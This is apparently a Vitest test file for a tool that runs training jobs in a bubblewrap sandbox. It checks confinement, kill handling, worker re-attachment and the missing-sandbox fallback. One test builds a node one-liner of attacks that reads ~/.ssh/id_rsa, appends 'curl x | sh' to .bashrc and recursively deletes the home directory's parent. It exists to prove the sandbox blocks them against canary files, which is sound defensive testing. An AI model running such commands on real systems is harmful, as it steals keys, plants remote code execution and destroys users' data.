import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { spawn, type ChildProcess } from "node:child_process";
import { existsSync } from "node:fs";
import { mkdir, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { readEvents, readMetrics, readRunStatus } from "../campaign/index.ts";
import { findTaggedProcesses, isGroupAlive } from "../core/process-group.ts";
import { chooseSandbox } from "../core/sandbox/sandbox-choice.ts";
import { runTagOf, runTagVariable } from "./launch/run-tag.ts";
import { runWorker } from "./run-worker.ts";
import { silentProgress } from "./supervise/progress-reporter.ts";
import { fixtureFolder } from "./__fixtures__/fixture-blueprint.ts";

/**
 * The worker's runs inside bubblewrap (launch/sandbox-plan.ts): the test trainer runs to
 * success confined, with the attacks of issue 23 in front of it; the sandbox is recorded
 * in status.json, events.jsonl and result.md; a budget kill ends everything inside, even a
 * process that left the group; a worker killed mid-run is replaced by one that re-attaches
 * to the sandboxed run; a missing bwrap is a clear warning by default and a refusal when
 * the blueprint asks for the sandbox.
 */
const bwrapWorks = (() => {
  try {
    return chooseSandbox({ host: "bwrap" }, process.env).mode === "bwrap";
  } catch {
    return false;
  }
})();
const cli = fileURLToPath(new URL("../bin/a3r.js", import.meta.url));
let folder: Awaited<ReturnType<typeof fixtureFolder>>;
let home: string;
beforeAll(async () => {
  folder = await fixtureFolder();
  // A fake home outside /tmp (which a sandboxed run gets privately anyway), with canaries.
  home = await mkdtemp("/var/tmp/a3r-sandbox-home-");
  await mkdir(join(home, ".ssh"));
  await writeFile(join(home, ".ssh", "id_rsa"), "CANARY-KEY-8f14e45f\n");
  await writeFile(join(home, ".bashrc"), "# canary\n");
});
afterAll(async () => {
  await folder.cleanup();
  await rm(home, { recursive: true, force: true });
});

/** The environment a host's worker would have, without the test suite's A3R_SANDBOX=none. */
function hostEnv(extra: Record<string, string> = {}): NodeJS.ProcessEnv {
  const { A3R_SANDBOX: _ignored, ...env } = process.env;
  return { ...env, HOME: home, ...extra };
}

/** A loaded machine may take seconds to start a process: no first-signal or stall retry here. */
const patient = { frontMatter: { first_signal_timeout: "60s" }, worker: { stall_timeout: "60s" } };

async function until(check: () => Promise<boolean>, timeoutMs = 45_000): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!(await check())) {
    if (Date.now() > deadline) throw new Error("condition not reached in time");
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
}

describe.skipIf(!bwrapWorks)("worker runs inside the sandbox", () => {
  it("the test trainer succeeds confined by default; the attacks before it do nothing; bwrap is recorded", async () => {
    // Written as an interpreter one-liner, which the command policy (the first line) cannot judge.
    const attacks = [
      `node -e "const fs=require('fs'),os=require('os'),p=require('path'); const h=os.homedir();`,
      `const t=(n,f)=>{try{console.log(n,String(f()).slice(0,40))}catch(e){console.log(n,e.code)}};`,
      `t('read-key',()=>fs.readFileSync(p.join(h,'.ssh','id_rsa'),'utf8'));`,
      `t('bashrc',()=>fs.appendFileSync(p.join(h,'.bashrc'),'curl x | sh'));`,
      `t('rm-home-parent',()=>fs.rmSync(p.join(h,'..'),{recursive:true,force:true}));`,
      `require('net').connect(1,'127.0.0.1').on('error',e=>console.log('connect',e.code))"`,
    ].join(" ");
    const { path, resultDir } = await folder.write({ id: "confined", command: `${attacks}; node trainer.mjs --steps 3`, ...patient });
    const outcome = await runWorker({ blueprintPath: path, progress: silentProgress, env: hostEnv() });
    expect(outcome).toMatchObject({ state: "succeeded", attempts: 1 });
    const status = (await readRunStatus(join(resultDir, "status.json"))).status as Record<string, unknown>;
    expect(status.sandbox).toMatchObject({ mode: "bwrap" });
    expect((await readEvents(join(resultDir, "events.jsonl"))).events.find((event) => event.kind === "run.sandbox")).toMatchObject({
      mode: "bwrap",
      fellBack: false,
    });
    expect(await readFile(join(resultDir, "result.md"), "utf8")).toMatch(/- Sandbox: bwrap \(bubblewrap \(\/\S*bwrap\); loopback only\)/);
    const log = await readFile(join(resultDir, "logs", "attempt-1.log"), "utf8");
    expect(log).not.toContain("CANARY-KEY");
    expect(log).toContain("connect ECONNREFUSED");
    expect(log).toMatch(/read-key ENOENT/);
    expect(await readFile(join(home, ".ssh", "id_rsa"), "utf8")).toBe("CANARY-KEY-8f14e45f\n");
    expect(await readFile(join(home, ".bashrc"), "utf8")).toBe("# canary\n");
    expect((await readMetrics(join(resultDir, "metrics.jsonl"))).records.map((record) => record.step)).toEqual([1, 2, 3]);
  });

  it("a budget kill ends everything inside the sandbox: children that ignore TERM and one that left the group with setsid", async () => {
    const { path, resultDir } = await folder.write({
      id: "confined-kill",
      command: "node trainer.mjs --steps 1000 --step-ms 100 --children 2 --escape 1",
      budget: "3s",
    });
    const outcome = await runWorker({ blueprintPath: path, progress: silentProgress, env: hostEnv({ A3R_SANDBOX: "bwrap" }) });
    expect(outcome.state).toBe("timed_out");
    const status = (await readRunStatus(join(resultDir, "status.json"))).status!;
    expect(status.sandbox).toMatchObject({ mode: "bwrap" });
    expect(isGroupAlive(status.pgid!)).toBe(false);
    // Nothing carrying the run's tag is left anywhere on the host.
    expect(await findTaggedProcesses(runTagVariable, runTagOf(resultDir))).toEqual([]);
  });

  it("a worker killed mid-run is replaced by one that re-attaches to the sandboxed run; it is launched once", async () => {
    // The gate lies in the run's own output folder: the one place outside it can write and it can see.
    const { path, resultDir } = await folder.write({
      id: "confined-reattach",
      command: "node trainer.mjs --steps 6 --step-ms 50 --pause-after 3 --until-file $A3R_OUTPUT_DIR/gate",
      frontMatter: { first_signal_timeout: "60s" },
      worker: { stall_timeout: "2m" },
    });
    const start = (): { child: ChildProcess; done: Promise<{ code: number | null; stdout: string }> } => {
      const child = spawn(process.execPath, [cli, "worker", "run", path, "--json", "--no-llm"], { stdio: ["ignore", "pipe", "ignore"], env: hostEnv() });
      let stdout = "";
      child.stdout!.on("data", (chunk) => (stdout += chunk));
      return { child, done: new Promise((resolve) => child.once("exit", (code) => resolve({ code, stdout }))) };
    };
    const first = start();
    await until(async () => (await readMetrics(join(resultDir, "metrics.jsonl"))).records.length >= 3);
    first.child.kill("SIGKILL");
    await first.done;
    const before = (await readRunStatus(join(resultDir, "status.json"))).status!;
    expect(before.state).toBe("running");
    expect(isGroupAlive(before.pgid!)).toBe(true);
    const second = start();
    await until(async () => (await readEvents(join(resultDir, "events.jsonl"))).events.some((event) => event.kind === "worker.reattached"));
    await writeFile(join(resultDir, "output", "gate"), "open");
    const result = await second.done;
    expect(JSON.parse(result.stdout.trim())).toMatchObject({ state: "succeeded", reattached: true, attempts: 1 });
    const events = (await readEvents(join(resultDir, "events.jsonl"))).events;
    expect(events.filter((event) => event.kind === "run.launched")).toHaveLength(1);
    expect(events.find((event) => event.kind === "worker.reattached")).toMatchObject({ pgid: before.pgid });
  });
});

describe("worker where bubblewrap is missing", () => {
  const missing = { A3R_BWRAP: "/nonexistent/a3r-test/bwrap" };

  it("by default the run goes unconfined, and says so in status.json, events.jsonl and result.md", async () => {
    const { path, resultDir } = await folder.write({ id: "no-bwrap-default", command: "node trainer.mjs --steps 2", ...patient });
    const outcome = await runWorker({ blueprintPath: path, progress: silentProgress, env: hostEnv(missing) });
    expect(outcome.state).toBe("succeeded");
    const status = (await readRunStatus(join(resultDir, "status.json"))).status as Record<string, unknown>;
    expect(status.sandbox).toMatchObject({
      mode: "none",
      why: expect.stringContaining("no bwrap executable found (looked in A3R_BWRAP=/nonexistent/a3r-test/bwrap)"),
    });
    expect((await readEvents(join(resultDir, "events.jsonl"))).events.find((event) => event.kind === "run.sandbox")).toMatchObject({
      mode: "none",
      fellBack: true,
    });
    expect(await readFile(join(resultDir, "result.md"), "utf8")).toContain("- Sandbox: none (no bwrap executable found");
  });

  it("a blueprint that asks for sandbox: bwrap is refused at preparation with what to do; nothing runs", async () => {
    const marker = join(folder.dir, "no-bwrap-ran");
    const { path, resultDir } = await folder.write({
      id: "no-bwrap-asked",
      command: `touch ${marker}; node trainer.mjs --steps 2`,
      frontMatter: { sandbox: "bwrap" },
    });
    const outcome = await runWorker({ blueprintPath: path, progress: silentProgress, env: hostEnv(missing) });
    expect(outcome.state).toBe("failed");
    expect(outcome.reason).toContain("[SANDBOX_UNAVAILABLE] sandbox: bwrap in the blueprint's front matter, but no bwrap executable found");
    expect(outcome.reason).toContain("apt-get install bubblewrap");
    expect(existsSync(marker)).toBe(false);
    expect(existsSync(join(resultDir, "logs", "attempt-1.log"))).toBe(false);
  });

  it("a blueprint cannot lift the sandbox its host requires", async () => {
    const { path } = await folder.write({ id: "lift", command: "node trainer.mjs --steps 1", frontMatter: { sandbox: "none" } });
    const outcome = await runWorker({ blueprintPath: path, progress: silentProgress, env: hostEnv(), sandbox: "bwrap" });
    expect(outcome.state).toBe("failed");
    expect(outcome.reason).toContain("the blueprint says sandbox: none, but its host requires the sandbox");
  });
});
